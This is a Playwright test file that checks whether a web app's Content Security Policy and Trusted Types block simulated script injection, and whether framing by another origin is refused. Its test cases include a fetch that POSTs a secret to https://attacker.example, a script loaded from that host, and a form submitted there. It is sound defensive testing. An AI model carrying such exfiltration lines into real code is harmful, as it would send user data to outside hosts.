import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { openOtherWorld } from '../other-world.ts';
import { watchContext } from '../watch.ts';

/** What an injected script would try, what the browser reports of it, and the trace that it must not leave. */
const intrusions: readonly {
  what: string;
  attempt: () => unknown;
  reported: RegExp;
  trace: () => unknown;
}[] = [
  {
    what: 'an inline script',
    attempt: () => {
      const script = document.createElement('script');
      script.append('globalThis.planted = "inline"');
      document.body.append(script);
    },
    reported: /^policy violation: (script-src-elem inline|require-trusted-types-for)/,
    trace: () => Reflect.get(globalThis, 'planted'),
  },
  {
    what: 'a script from a string',
    attempt: () => {
      document.createElement('script').textContent = 'globalThis.planted = "text"';
    },
    reported: /^policy violation: require-trusted-types-for/,
    trace: () => Reflect.get(globalThis, 'planted'),
  },
  {
    what: 'markup from a string',
    attempt: () => {
      document.body.innerHTML = '<h1>planted</h1>';
    },
    reported: /^policy violation: require-trusted-types-for/,
    trace: () => (document.body.textContent?.includes('planted') ? 'shown' : undefined),
  },
  {
    what: 'eval',
    attempt: () => {
      // oxlint-disable-next-line no-eval -- the policy has to refuse exactly this
      globalThis.eval('globalThis.planted = "eval"');
    },
    reported: /^policy violation: (script-src eval|require-trusted-types-for)/,
    trace: () => Reflect.get(globalThis, 'planted'),
  },
  {
    what: 'a script from elsewhere',
    attempt: () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://attacker.example/script.js');
      document.body.append(script);
    },
    reported: /^policy violation: (script-src-elem https:\/\/attacker\.example|require-trusted-types-for)/,
    trace: () => undefined,
  },
  {
    what: 'a request to a foreign host',
    attempt: () => {
      void fetch('https://attacker.example/', { method: 'POST', body: 'a secret' }).catch(() => undefined);
    },
    reported: /^policy violation: connect-src https:\/\/attacker\.example/,
    trace: () => undefined,
  },
  {
    what: 'a style attribute',
    attempt: () => document.body.setAttribute('style', 'position: fixed'),
    reported: /^policy violation: style-src-attr inline/,
    trace: () => (getComputedStyle(document.body).position === 'fixed' ? 'fixed' : undefined),
  },
  {
    what: 'a frame',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = '/favicon.svg';
      document.body.append(frame);
    },
    reported: /^policy violation: frame-src/,
    trace: () => undefined,
  },
  {
    what: 'a form that leaves',
    attempt: () => {
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      document.body.append(form);
      form.submit();
    },
    reported: /^policy violation: form-action https:\/\/attacker\.example/,
    trace: () => (location.hostname === 'localhost' ? undefined : location.href),
  },
];

test('what an injected script would try is blocked, and the watch over every test reports it', async ({
  browser,
  baseURL,
}) => {
  // A context of its own: in the test's own one each of these would fail the test.
  const context = await browser.newContext(baseURL === undefined ? {} : { baseURL });
  const found = await watchContext(context);
  const page = await context.newPage();
  for (const { what, attempt, reported, trace } of intrusions)
    await test.step(what, async () => {
      await page.goto('/');
      await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
      const before = found().length;
      await inThePage(page, attempt);
      await expect.poll(() => found().slice(before)).toContainEqual(expect.stringMatching(reported));
      expect(await page.evaluate(trace)).toBeUndefined();
    });
  await context.close();
});

/** Runs as the page's own code: what is evaluated from outside is exempt from the policy. */
async function inThePage(page: Page, attempt: () => unknown): Promise<void> {
  const exposed = await page.evaluateHandle(`(${attempt.toString()})`);
  await page.evaluate(
    (run) =>
      new Promise<void>((resolve) => {
        setTimeout(() => {
          resolve();
          if (typeof run === 'function') run();
        });
      }),
    exposed,
  );
}

test('nobody can put the page into a frame of theirs', async ({ page, baseURL }) => {
  // The same files without the headers can be framed, so it is the headers that refuse.
  const world = await openOtherWorld();
  await page.goto(world.page);
  await page.setContent(
    `<iframe title="bare" src="${world.page}"></iframe><iframe title="guarded" src="${baseURL}"></iframe>`,
  );
  const signIn = (frame: string) =>
    page.getByTitle(frame).contentFrame().getByRole('button', { name: 'Sign in' });
  await expect(signIn('bare')).toBeVisible();
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContain('chrome-error://chromewebdata/');
  await expect(signIn('guarded')).toHaveCount(0);
  world.close();
});
